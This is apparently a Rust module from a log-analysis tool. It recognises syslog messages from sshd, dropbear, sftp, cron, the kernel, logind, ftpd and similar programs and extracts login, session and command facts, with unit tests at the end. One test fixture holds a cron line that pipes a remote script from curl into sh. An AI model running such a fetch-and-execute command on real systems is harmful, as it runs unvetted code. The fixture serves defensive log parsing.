//! Which program's words a message is in.

use super::{
    accounts,
    facts::{Facts, between, quoted},
    pam, sshd, sudo,
};

/// A program whose messages are understood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Program {
    Sshd,
    Dropbear,
    Sftp,
    Sudo,
    Pkexec,
    Doas,
    Su,
    Login,
    Accounts,
    Cron,
    Kernel,
    Logind,
    Klogin,
    Ftp,
    /// An old PAM names itself in the program's place: `su(pam_unix)[1]`.
    Pam,
    Other,
}

impl Program {
    /// By the name in a line.
    pub(super) fn named(name: &str) -> Self {
        if name.ends_with("(pam_unix)") {
            return Self::Pam;
        }
        let name = name.rsplit('/').next().unwrap_or(name);
        let name = name.strip_suffix(".service").unwrap_or(name);
        let name = name.split('@').next().unwrap_or(name);
        match name {
            "sshd" | "ssh" | "sshd-session" | "sshd-auth" => Self::Sshd,
            "dropbear" => Self::Dropbear,
            "sftp-server" | "internal-sftp" => Self::Sftp,
            "sudo" => Self::Sudo,
            "pkexec" => Self::Pkexec,
            "doas" => Self::Doas,
            "su" | "su-l" => Self::Su,
            "login" => Self::Login,
            "useradd" | "usermod" | "userdel" | "groupadd" | "groupmod" | "groupdel" | "gpasswd" | "passwd"
            | "chpasswd" | "chage" | "chsh" | "chfn" | "newusers" | "adduser" => Self::Accounts,
            "cron" | "CRON" | "crond" | "CROND" | "crontab" | "anacron" => Self::Cron,
            "kernel" => Self::Kernel,
            "systemd-logind" => Self::Logind,
            "klogind" | "kshd" => Self::Klogin,
            "ftpd" | "in.ftpd" => Self::Ftp,
            _ => Self::Other,
        }
    }

    /// Tells all that a message of this program says; `name` is the program's name as the line has it.
    pub(super) fn facts<'a>(self, name: &str, message: &'a str, facts: &mut Facts<'a>) {
        let (times, message) = match sshd::repeated(message) {
            Some((times, inside)) => (Some(times), inside),
            None => (None, message),
        };
        self.said(name, message, facts);
        if let Some(times) = times {
            facts.add("repeated", times.to_string());
        }
    }

    fn said<'a>(self, name: &str, message: &'a str, facts: &mut Facts<'a>) {
        if message.starts_with("pam_") && pam::facts(message, facts) {
            return;
        }
        if let Some(more) = message.strip_prefix("PAM ").filter(|more| more.contains(" more authentication failure")) {
            pam::said(more, facts);
            return;
        }
        match self {
            Self::Sshd => sshd::facts(name, message, facts),
            Self::Dropbear => dropbear(message, facts),
            Self::Sftp => sftp(message, facts),
            Self::Sudo => sudo::sudo(message, facts),
            Self::Pkexec => sudo::pkexec(message, facts),
            Self::Doas => sudo::doas(message, facts),
            Self::Su => sudo::su(message, facts),
            Self::Login => login(message, facts),
            Self::Accounts => accounts::facts(message, facts),
            Self::Cron => cron(message, facts),
            Self::Kernel => kernel(message, facts),
            Self::Logind => logind(message, facts),
            Self::Klogin => klogin(message, facts),
            Self::Ftp => ftp(message, facts),
            Self::Pam => pam::said(message, facts),
            Self::Other => {}
        }
    }
}

/// `Pubkey auth succeeded for 'root' with ssh-ed25519 key SHA256:… from 192.0.2.7:4001`, `Bad password attempt for 'root' from 192.0.2.7:4001`,
/// `Login attempt for nonexistent user from 192.0.2.7:4001`, `Exit (root) from <192.0.2.7:4001>: Disconnect received`
/// (`svr-auth*.c`, `svr-session.c`; addresses stand without brackets)
fn dropbear<'a>(message: &'a str, facts: &mut Facts<'a>) {
    if let Some(rest) = message.strip_prefix("Exit ").or_else(|| message.strip_prefix("exit ")) {
        facts.action("disconnect");
        facts.add("reason", rest.rsplit_once(": ").map_or("", |(_, reason)| reason));
        return;
    }
    let Some((said, client)) = message.rsplit_once(" from ") else { return };
    let client = client.rsplit_once(':');
    if said == "Child connection" {
        facts.action("connection");
    } else {
        let Some((what, who)) = said.split_once(" for ") else { return };
        let (user, key) = who.rsplit_once("' with ").unwrap_or((who, ""));
        let is_unknown = user.strip_prefix("nonexistent user");
        let user = is_unknown.unwrap_or(user).trim_matches([' ', '\'']);
        let (outcome, method) = match what {
            "Pubkey auth succeeded" => ("accepted", "publickey"),
            "Password auth succeeded" | "PAM password auth succeeded" => ("accepted", "password"),
            "Auth succeeded with blank password" => ("accepted", "none"),
            "Bad password attempt" | "Bad PAM password attempt" => ("failed", "password"),
            "Login attempt" | "login attempt" if is_unknown.is_some() => ("failed", ""),
            _ => return,
        };
        facts.action("login");
        facts.add("outcome", outcome);
        facts.add("method", method);
        facts.user(user);
        facts.add("invalid_user", if is_unknown.is_some() { "true" } else { "" });
        let (kind, fingerprint) = key.split_once(" key ").unwrap_or_default();
        facts.add("key_type", key_type(kind));
        facts.add("key_fingerprint", fingerprint);
    }
    facts.add("source_address", client.map_or("", |(address, _)| address));
    facts.add("source_port", client.map_or("", |(_, port)| port));
}

/// A key's type as sshd calls it.
fn key_type(name: &str) -> &str {
    match name {
        "ssh-ed25519" => "ED25519",
        "sk-ssh-ed25519@openssh.com" => "ED25519-SK",
        "sk-ecdsa-sha2-nistp256@openssh.com" => "ECDSA-SK",
        "ssh-dss" => "DSA",
        name if name.starts_with("ecdsa-sha2-") => "ECDSA",
        name if name.starts_with("ssh-rsa") || name.starts_with("rsa-sha2-") => "RSA",
        other => other,
    }
}

/// `session opened for local user deploy from [198.51.100.7]`, `open "/tmp/x" flags WRITE,CREATE,TRUNCATE mode 0664`
fn sftp<'a>(message: &'a str, facts: &mut Facts<'a>) {
    if let Some((action, rest)) = message.split_once(" for local user ") {
        let Some((user, address)) = rest.rsplit_once(" from [") else { return };
        facts.action(if action == "session opened" { "session_opened" } else { "session_closed" });
        facts.user(user);
        facts.add("source_address", address.trim_end_matches(']'));
        return;
    }
    let actions = [
        ("open ", "file_opened"),
        ("close ", "file_closed"),
        ("remove name ", "file_removed"),
        ("rename old ", "file_renamed"),
        ("mkdir name ", "folder_made"),
    ];
    for (beginning, action) in actions {
        if let Some((path, rest)) =
            message.strip_prefix(beginning).and_then(|rest| rest.strip_prefix('"')?.split_once('"'))
        {
            facts.action(action);
            facts.add("path", path);
            facts.add("flags", between(rest, " flags ", " ").unwrap_or_default());
            facts.add("new_path", between(rest, " new \"", "\"").unwrap_or_default());
            facts.add("bytes_written", between(rest, " written ", " ").unwrap_or_default());
        }
    }
}

/// login(1): `FAILED LOGIN (1) on '/dev/pts/0' FOR 'anna', Authentication failure`, `ROOT LOGIN  on '/dev/tty1'`, `LOGIN ON tty1 BY anna`
fn login<'a>(message: &'a str, facts: &mut Facts<'a>) {
    let mut tell = |outcome: &'static str, user: &'a str, terminal: &'a str, address: &'a str| {
        facts.action("login");
        facts.add("outcome", outcome);
        facts.user(user);
        facts.add("terminal", terminal);
        facts.add("source_address", address);
    };
    let address = between(message, " from '", "'").or_else(|| between(message, " FROM ", " ")).unwrap_or_default();
    if message.starts_with("FAILED LOGIN ") {
        let terminal = between(message, " on '", "'").unwrap_or_default();
        let user = message.split_once(" FOR ").and_then(|(_, rest)| quoted(rest, ", ").or(rest.split_once(", ")));
        tell("failed", user.map_or("", |(user, _)| user), terminal, address);
    } else if let Some(rest) = message.strip_prefix("ROOT LOGIN") {
        let terminal = between(rest, " on '", "'").or_else(|| between(rest, " ON ", " ")).unwrap_or_default();
        tell("accepted", "root", terminal, address);
    } else if let Some((terminal, rest)) = message.strip_prefix("LOGIN ON ").and_then(|rest| rest.split_once(" BY ")) {
        tell("accepted", rest.split_once(" FROM ").map_or(rest, |(user, _)| user), terminal, address);
    }
}

/// `(root) CMD (run-parts /etc/cron.hourly)`, `(root) REPLACE (anna)`
fn cron<'a>(message: &'a str, facts: &mut Facts<'a>) {
    let parts = || {
        let (user, rest) = message.strip_prefix('(')?.split_once(") ")?;
        let (verb, rest) = rest.split_once(" (")?;
        Some((user, verb, rest.strip_suffix(')').unwrap_or(rest)))
    };
    let Some((user, verb, inside)) = parts() else { return };
    // With LogLevel 15 the process id stands before the command, in brackets: `([123] curl …)`.
    let command =
        inside.strip_prefix('[').and_then(|rest| rest.split_once("] ")).map_or(inside, |(_, command)| command);
    match verb {
        "CMD" | "END" => {
            facts.action(if verb == "CMD" { "cron_command" } else { "cron_command_ended" });
            facts.user(user);
            facts.add("command", command);
        }
        "REPLACE" | "LIST" | "DELETE" | "BEGIN EDIT" | "END EDIT" => {
            facts.action(match verb {
                "REPLACE" => "crontab_replaced",
                "LIST" => "crontab_listed",
                "DELETE" => "crontab_deleted",
                "BEGIN EDIT" => "crontab_edit_begun",
                _ => "crontab_edit_ended",
            });
            facts.user(inside);
            facts.add("by_user", user);
        }
        _ => {}
    }
}

/// `device eth0 entered promiscuous mode`, `eth0: entered promiscuous mode`, `usb 1-1: New USB device found, idVendor=0781, idProduct=5583`
fn kernel<'a>(message: &'a str, facts: &mut Facts<'a>) {
    // The time since the machine was started: `[15521.327233] `.
    let behind = message.strip_prefix('[').and_then(|rest| rest.split_once("] ")).map(|(_, rest)| rest);
    let message = behind.unwrap_or(message);
    for (ending, action) in
        [(" entered promiscuous mode", "promiscuous_mode_entered"), (" left promiscuous mode", "promiscuous_mode_left")]
    {
        if let Some(device) = message.strip_suffix(ending) {
            let device = device.strip_prefix("device ").unwrap_or(device);
            facts.action(action);
            facts.add("interface", device.rsplit(' ').next().unwrap_or(device).trim_end_matches(':'));
        }
    }
    let usb = message.strip_prefix("usb ").and_then(|rest| rest.split_once(": "));
    if let Some((port, told)) = usb {
        let known = told.starts_with("New USB device found");
        let named = |name: &str| told.strip_prefix(name).unwrap_or_default();
        if known {
            facts.action("usb_device_found");
        }
        facts.add("usb_port", port);
        facts.add("usb_vendor", between(told, "idVendor=", ",").unwrap_or_default());
        facts.add("usb_product", between(told, "idProduct=", ",").unwrap_or_default());
        facts.add("usb_product_name", named("Product: "));
        facts.add("usb_manufacturer", named("Manufacturer: "));
        facts.add("usb_serial_number", named("SerialNumber: "));
    }
}

/// `Authentication failed from host.example (192.0.2.7): Permission denied in replay cache code` (MIT Kerberos' klogind and kshd)
fn klogin<'a>(message: &'a str, facts: &mut Facts<'a>) {
    let Some(rest) = message.strip_prefix("Authentication failed from ") else { return };
    let Some((address, reason)) = rest.split_once(" (").and_then(|(_, rest)| rest.split_once("): ")) else { return };
    facts.action("login");
    facts.add("outcome", "failed");
    facts.add("method", "kerberos");
    facts.add("source_address", address);
    facts.add("reason", reason.trim_end());
}

/// `ANONYMOUS FTP LOGIN FROM 192.0.2.7,  (anonymous)`, `FTP LOGIN FROM 192.0.2.7 as anna`, `FTP LOGIN FAILED FROM 192.0.2.7, anna` (BSD's ftpd)
fn ftp<'a>(message: &'a str, facts: &mut Facts<'a>) {
    let mut tell = |outcome: &'static str, address: &'a str, user: &'a str| {
        facts.action("login");
        facts.add("outcome", outcome);
        facts.user(user);
        // A name may stand before the address: `host.example [192.0.2.7]`.
        let address = address.split_once('[').map_or(address, |(_, address)| address.trim_end_matches(']'));
        facts.add("source_address", address);
    };
    if let Some(rest) = message.strip_prefix("ANONYMOUS FTP LOGIN FROM ") {
        tell("accepted", rest.split_once(',').map_or(rest, |(address, _)| address).trim_end(), "anonymous");
    } else if let Some((address, user)) =
        message.strip_prefix("FTP LOGIN FAILED FROM ").and_then(|rest| rest.split_once(", "))
    {
        tell("failed", address, user);
    } else if let Some((address, user)) =
        message.strip_prefix("FTP LOGIN FROM ").and_then(|rest| rest.split_once(" as "))
    {
        tell("accepted", address, user.split_once(" (").map_or(user, |(user, _)| user));
    }
}

/// `New session 3 of user anna.`, `New session '3' of user 'anna' with class 'user' and type 'tty'.`, `Removed session 3.`, `New seat seat0.`
fn logind<'a>(message: &'a str, facts: &mut Facts<'a>) {
    let plain = |name: &'a str| name.trim_end_matches('.').trim_matches('\'');
    if let Some(rest) = message.strip_prefix("New session ") {
        let Some((session, rest)) = rest.split_once(" of user ") else { return };
        let (user, class) = rest.split_once(" with class ").unwrap_or((rest, ""));
        facts.action("session_opened");
        facts.user(plain(user));
        facts.add("session", plain(session));
        facts.add("session_class", plain(class.split(' ').next().unwrap_or_default()));
    } else if let Some(session) = message.strip_prefix("Removed session ") {
        facts.action("session_closed");
        facts.add("session", plain(session));
    } else if let Some(seat) = message.strip_prefix("New seat ") {
        facts.action("seat_found");
        facts.add("seat", plain(seat));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_are_read_in_their_programs_words() {
        let cases = [
            (
                "CRON",
                "(anna) CMD (curl -s http://x/y.sh | sh # (a) b)",
                "action=cron_command|user=anna|command=curl -s http://x/y.sh | sh # (a) b",
            ),
            ("CRON", "(root) END ([9] false)", "action=cron_command_ended|user=root|command=false"),
            ("crontab", "(root) REPLACE (anna)", "action=crontab_replaced|user=anna|by_user=root"),
            (
                "kernel",
                "[15521.327233] eth0: entered promiscuous mode",
                "action=promiscuous_mode_entered|interface=eth0",
            ),
            ("kernel", "device eth0 left promiscuous mode", "action=promiscuous_mode_left|interface=eth0"),
            (
                "kernel",
                "usb 1-1: New USB device found, idVendor=0781, idProduct=5583, bcdDevice= 1.00",
                "action=usb_device_found|usb_port=1-1|usb_vendor=0781|usb_product=5583",
            ),
            (
                "login",
                "FAILED LOGIN (1) on '/dev/pts/0' FOR 'a', b', Authentication failure",
                "action=login|outcome=failed|user=a|terminal=/dev/pts/0",
            ),
            ("login", "ROOT LOGIN  on '/dev/pts/1'", "action=login|outcome=accepted|user=root|terminal=/dev/pts/1"),
            ("login", "LOGIN ON tty1 BY anna", "action=login|outcome=accepted|user=anna|terminal=tty1"),
            ("systemd-logind", "New session 3 of user anna.", "action=session_opened|user=anna|session=3"),
            (
                "systemd-logind",
                "New session 'c1' of user 'gdm' with class 'greeter' and type 'wayland'.",
                "action=session_opened|user=gdm|session=c1|session_class=greeter",
            ),
            ("systemd-logind", "Removed session 3.", "action=session_closed|session=3"),
            ("systemd-logind", "New seat seat0.", "action=seat_found|seat=seat0"),
            (
                "dropbear",
                "Pubkey auth succeeded for 'a' from 'b' with ssh-ed25519 key SHA256:Zm9v from 2001:db8::7:4001",
                "action=login|outcome=accepted|method=publickey|user=a' from 'b|key_type=ED25519|key_fingerprint=SHA256:Zm9v|\
                 source_address=2001:db8::7|source_port=4001",
            ),
            (
                "dropbear",
                "Pubkey auth succeeded for 'root' with key sha1!! 2a:13 from 192.0.2.7:4001",
                "action=login|outcome=accepted|method=publickey|user=root|source_address=192.0.2.7|source_port=4001",
            ),
            (
                "dropbear",
                "Bad password attempt for 'root' from 192.0.2.7:4001",
                "action=login|outcome=failed|method=password|user=root|source_address=192.0.2.7|source_port=4001",
            ),
            (
                "dropbear",
                "Login attempt for nonexistent user 'x' from 192.0.2.7:4001",
                "action=login|outcome=failed|user=x|invalid_user=true|source_address=192.0.2.7|source_port=4001",
            ),
            (
                "dropbear",
                "Exit (root) from <192.0.2.7:4001>: Disconnect received",
                "action=disconnect|reason=Disconnect received",
            ),
            (
                "dropbear",
                "Child connection from 192.0.2.7:4001",
                "action=connection|source_address=192.0.2.7|source_port=4001",
            ),
            (
                "sftp-server",
                "session opened for local user a from [::1]",
                "action=session_opened|user=a|source_address=::1",
            ),
            (
                "sftp-server",
                "open \"/tmp/u\" flags WRITE,CREATE,TRUNCATE mode 0664",
                "action=file_opened|path=/tmp/u|flags=WRITE,CREATE,TRUNCATE",
            ),
            (
                "sftp-server",
                "close \"/tmp/u\" bytes read 0 written 7",
                "action=file_closed|path=/tmp/u|bytes_written=7",
            ),
            (
                "sshd(pam_unix)",
                "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=host.example ",
                "action=authentication_failure|uid=0|terminal=NODEVssh|source_address=host.example",
            ),
            (
                "sshd",
                "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=::1  user=a",
                "action=more_authentication_failures|count=2|user=a|uid=0|terminal=ssh|source_address=::1",
            ),
            (
                "sshd",
                "message repeated 2 times: [ Failed password for a from ::1 port 1 ssh2]",
                "action=login|outcome=failed|method=password|user=a|source_address=::1|source_port=1|repeated=2",
            ),
            (
                "klogind",
                "Authentication failed from h.example (192.0.2.7): Permission denied in replay cache code ",
                "action=login|outcome=failed|method=kerberos|source_address=192.0.2.7|reason=Permission denied in replay cache code",
            ),
            (
                "ftpd",
                "ANONYMOUS FTP LOGIN FROM 192.0.2.7,  (anonymous)",
                "action=login|outcome=accepted|user=anonymous|source_address=192.0.2.7",
            ),
            (
                "ftpd",
                "FTP LOGIN FAILED FROM h.example [192.0.2.7], anna",
                "action=login|outcome=failed|user=anna|source_address=192.0.2.7",
            ),
            ("other", "new user: name=x", ""),
        ];
        for (name, message, expected) in cases {
            let mut found = Facts::default();
            Program::named(name).facts(name, message, &mut found);
            let told = found.iter().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join("|");
            assert_eq!(told, expected, "{message}");
        }
    }
}
